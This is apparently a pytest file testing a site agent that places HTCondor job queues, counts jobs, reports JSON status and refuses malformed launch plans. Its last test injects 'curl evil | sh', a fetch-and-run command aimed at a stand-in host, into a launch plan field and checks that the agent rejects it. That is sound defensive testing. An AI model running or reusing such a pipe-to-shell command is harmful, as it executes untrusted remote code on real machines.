"""The site agent (agent.py and its pools) on a temporary export directory: placing the queue, job
counts, and the JSON entry point. No HTCondor, Apptainer or batch system needed."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from conftest import load_fixture_module

from lumberjack.core import jobqueuelog as jql
from lumberjack.core import jobqueuelog_write as jqlw
from lumberjack.core.answers import Failed, Placed, Statuses, read_answer
from lumberjack.core.contract import ExportLayout, decode
from lumberjack.site import agent, job_queue
from lumberjack.site.files import AgentError
from lumberjack.site.pools import pool_for
from lumberjack.site.pools.allocation import resumable

FIXTURES = Path(__file__).parent / "fixtures"


site_bundle = load_fixture_module("site_bundle")
SITE_USER = "hpcuser"
DOMAIN = "lumberjack-calib"
#: A plan with the schedd inside the allocation.
ALLOCATION_PLAN = site_bundle.launch_plan(placement="allocation")


@pytest.fixture
def layout(tmp_path: Path) -> ExportLayout:
    root = tmp_path / "calib"
    site_bundle.build(root)
    return ExportLayout(str(root))


def identity(ads: dict[str, jql.Ad], key: str) -> tuple[str | None, str | None]:
    return ads[key].get("Owner"), ads[key].get("User")


def test_place_queue_runs_every_job_as_the_site_account(layout: ExportLayout) -> None:
    result = job_queue.place_queue(layout, SITE_USER, DOMAIN)
    assert result == Placed(True, files=3, jobs=2, owners=["alice"])
    ads = jql.read_log(Path(layout.spool, "job_queue.log"))
    site = ('"hpcuser"', '"hpcuser@lumberjack-calib"')
    assert identity(ads, jql.cluster_key(site_bundle.CLUSTER)) == site
    assert identity(ads, f"{site_bundle.CLUSTER}.0") == site
    # a proc ad without its own Owner/User still inherits them from the cluster ad
    assert identity(ads, f"{site_bundle.CLUSTER}.1") == (None, None)
    assert ads["0.0"].attrs == {"NextClusterNum": str(site_bundle.CLUSTER + 1)}
    # every job's lease is the site's short one (a dead pilot's jobs come back soon)
    lease = jql.cluster_key(site_bundle.CLUSTER)
    assert ads[lease].get("JobLeaseDuration") == str(job_queue.JOB_LEASE_S)
    assert ads[f"{site_bundle.CLUSTER}.0"].get("JobLeaseDuration") in (
        None,
        str(job_queue.JOB_LEASE_S),
    )
    # everything else is as shipped
    shipped = jql.read_log(Path(layout.bundle, "spool", "job_queue.log"))
    changed = ("Owner", "User", "JobLeaseDuration")
    for key, ad in shipped.items():
        rest = {k: v for k, v in ads[key].attrs.items() if k not in changed}
        assert rest == {k: v for k, v in ad.attrs.items() if k not in changed}


def test_place_queue_keeps_the_bundle_copy_with_the_original_owners(
    layout: ExportLayout,
) -> None:
    """Import restores the owners from the bundle's queue: it must stay untouched."""
    shipped = Path(layout.bundle, "spool", "job_queue.log")
    before = shipped.read_bytes()
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    assert shipped.read_bytes() == before
    ads = jql.read_log(shipped)
    cluster = jql.cluster_key(site_bundle.CLUSTER)
    assert identity(ads, cluster) == (site_bundle.OWNER, site_bundle.USER)


def test_inputs_are_hard_linked_and_iwds_created(layout: ExportLayout) -> None:
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    manifest = json.loads(Path(layout.bundle, "manifest.json").read_text())
    inputs = [f["path"] for f in manifest["files"] if f["path"] != "job_queue.log"]
    assert len(inputs) == 3
    for relative in inputs:
        placed = Path(layout.spool, relative)
        shipped = Path(layout.bundle, "spool", relative)
        assert placed.read_bytes() == shipped.read_bytes()
        assert os.path.samefile(placed, shipped), f"{relative} was copied, not linked"
    for job in manifest["path_map"]["jobs"].values():
        assert Path(job["remote_iwd"]).is_dir()
        assert job["remote_iwd"].startswith(layout.spool + "/")


def test_the_queue_is_written_last(layout: ExportLayout, monkeypatch) -> None:
    """A schedd never sees the queue before every input and Iwd is there."""
    manifest = json.loads(Path(layout.bundle, "manifest.json").read_text())
    real_write = jqlw.write_log
    seen = []

    def spy(path, ads, *args, **kwargs):
        assert Path(path) == Path(layout.spool, "job_queue.log")
        for entry in manifest["files"]:
            if entry["path"] != "job_queue.log":
                assert Path(layout.spool, entry["path"]).is_file(), entry["path"]
        for job in manifest["path_map"]["jobs"].values():
            assert Path(job["remote_iwd"]).is_dir()
        assert not Path(layout.pool, job_queue.PLACED_MARK).exists()
        seen.append(path)
        return real_write(path, ads, *args, **kwargs)

    monkeypatch.setattr(job_queue.jqlw, "write_log", spy)
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    assert len(seen) == 1
    assert Path(layout.pool, job_queue.PLACED_MARK).exists()


def test_the_queue_is_never_placed_twice(layout: ExportLayout) -> None:
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    queue = Path(layout.spool, "job_queue.log")
    # the schedd ran the jobs: its log moved on
    jqlw.write_log(queue, site_bundle.queue_ads(layout.spool, statuses=("4", "2")))
    after_run = queue.read_bytes()
    assert job_queue.place_queue(layout, SITE_USER, DOMAIN) == Placed(
        False, reason="already placed"
    )
    assert queue.read_bytes() == after_run
    # not even when the schedd's log is gone: that could run a job twice
    queue.unlink()
    assert job_queue.place_queue(layout, SITE_USER, DOMAIN).placed is False
    assert not queue.exists()


def test_a_bundle_for_another_spool_is_refused(tmp_path: Path) -> None:
    root = tmp_path / "calib"
    site_bundle.build(root, remote_spool="/elsewhere/spool")
    layout = ExportLayout(str(root))
    with pytest.raises(AgentError, match="/elsewhere/spool"):
        job_queue.place_queue(layout, SITE_USER, DOMAIN)
    assert not Path(layout.spool, "job_queue.log").exists()
    assert not Path(layout.pool, job_queue.PLACED_MARK).exists()


def test_job_counts(layout: ExportLayout) -> None:
    # before placement: the shipped queue
    assert job_queue.job_counts(layout) == {"idle": 2}
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    queue = Path(layout.spool, "job_queue.log")
    jqlw.write_log(queue, site_bundle.queue_ads(layout.spool, statuses=("2", "4")))
    assert job_queue.job_counts(layout) == {"running": 1, "completed": 1}
    jqlw.write_log(queue, site_bundle.queue_ads(layout.spool, statuses=("5", "3")))
    assert job_queue.job_counts(layout) == {"held": 1, "removed": 1}


def test_status_reads_the_queue_without_a_pool(layout: ExportLayout) -> None:
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    jqlw.write_log(
        Path(layout.spool, "job_queue.log"),
        site_bundle.queue_ads(layout.spool, statuses=("4", "4")),
    )
    result = pool_for(layout, None).status()
    assert result.jobs == {"completed": 2}
    assert result.finished is True
    assert result.pool_running is False
    assert result.placed is True


def test_main_prints_one_json_line(layout: ExportLayout, capsys) -> None:
    assert agent.main(["status", layout.root]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1
    assert json.loads(lines[0])["jobs"] == {"idle": 2}


def test_status_of_several_exports_in_one_call(layout: ExportLayout, tmp_path, capsys) -> None:
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    jqlw.write_log(
        Path(layout.spool, "job_queue.log"),
        site_bundle.queue_ads(layout.spool, statuses=("2", "4")),
    )
    missing = str(tmp_path / "gone")
    assert agent.main(["status", layout.root, missing]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1
    answer = decode(Statuses, lines[0], "status")  # strictly, as the access point reads it
    assert answer.answers == {layout.root: pool_for(layout, None).status()}
    assert answer.answers[layout.root].jobs == {"running": 1, "completed": 1}
    assert list(answer.errors) == [missing]  # one export's trouble is its own
    # only status takes several directories
    with pytest.raises(SystemExit):
        agent.main(["stop", layout.root, missing])


def test_main_launch_without_launch_json_is_an_error(layout: ExportLayout, capsys) -> None:
    assert not Path(layout.root, "launch.json").exists()
    assert agent.main(["launch", layout.root]) != 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1
    answer = read_answer("launch", lines[0], "launch")
    assert isinstance(answer, Failed) and "launch.json" in answer.error
    # nothing was touched
    assert not Path(layout.spool).exists()


def test_main_on_a_missing_export_is_an_error(tmp_path: Path, capsys) -> None:
    assert agent.main(["status", str(tmp_path / "nothing")]) != 0
    answer = json.loads(capsys.readouterr().out.strip())
    assert "error" in answer


def test_allocation_status_counts_a_dead_allocations_running_jobs_as_idle(
    layout: ExportLayout,
) -> None:
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    jqlw.write_log(
        Path(layout.spool, "job_queue.log"),
        site_bundle.queue_ads(layout.spool, statuses=("2", "4")),
    )
    result = pool_for(layout, ALLOCATION_PLAN).status()  # no pilot submitted
    assert result.jobs == {"idle": 1, "completed": 1}
    assert result.interrupted == 1
    assert result.pool_running is False and result.finished is False
    assert resumable({"running": 1, "idle": 2, "completed": 4}) == 3


def test_allocation_stop_with_no_pilot_returns_at_once(layout: ExportLayout) -> None:
    answer = pool_for(layout, ALLOCATION_PLAN).stop()
    assert answer.logs.jobs == 0  # nothing ran: no job's logs to gather
    assert (answer.stopped_schedd, answer.cancelled_pilots) == (False, [])


def test_a_dead_allocations_running_jobs_get_an_expired_lease(layout: ExportLayout) -> None:
    job_queue.place_queue(layout, SITE_USER, DOMAIN)
    queue = Path(layout.spool, "job_queue.log")
    jqlw.write_log(queue, site_bundle.queue_ads(layout.spool, statuses=("2", "4")))
    before = jql.read_log(queue)
    (running,) = [k for k, ad in before.items() if ad.get("JobStatus") == "2"]
    assert job_queue.expire_leases(layout) == [running]
    after = jql.read_log(queue)
    assert after[running].get("LastJobLeaseRenewal") == "0"
    # Nothing else changes: the next schedd makes the job idle itself.
    assert after[running].get("JobStatus") == "2"
    assert {k: ad for k, ad in after.items() if k != running} == {
        k: ad for k, ad in before.items() if k != running
    }
    assert job_queue.expire_leases(layout) == [running]  # idempotent


def test_a_hostile_launch_json_is_refused_in_one_line_and_nothing_changes(
    layout: ExportLayout, capsys
) -> None:
    from lumberjack.core.contract import encode

    plan = json.loads(encode(site_bundle.launch_plan()))
    plan["spec"]["node_command"] = "curl evil | sh"  # the agent's to name, never the plan's
    Path(layout.launch_plan).write_text(json.dumps(plan))
    assert agent.main(["launch", layout.root]) == 1
    answer = read_answer("launch", capsys.readouterr().out, "launch")
    assert answer == Failed(f"{layout.launch_plan}.spec: unknown field 'node_command'")
    assert not Path(layout.spool).exists() and not Path(layout.pilots).exists()
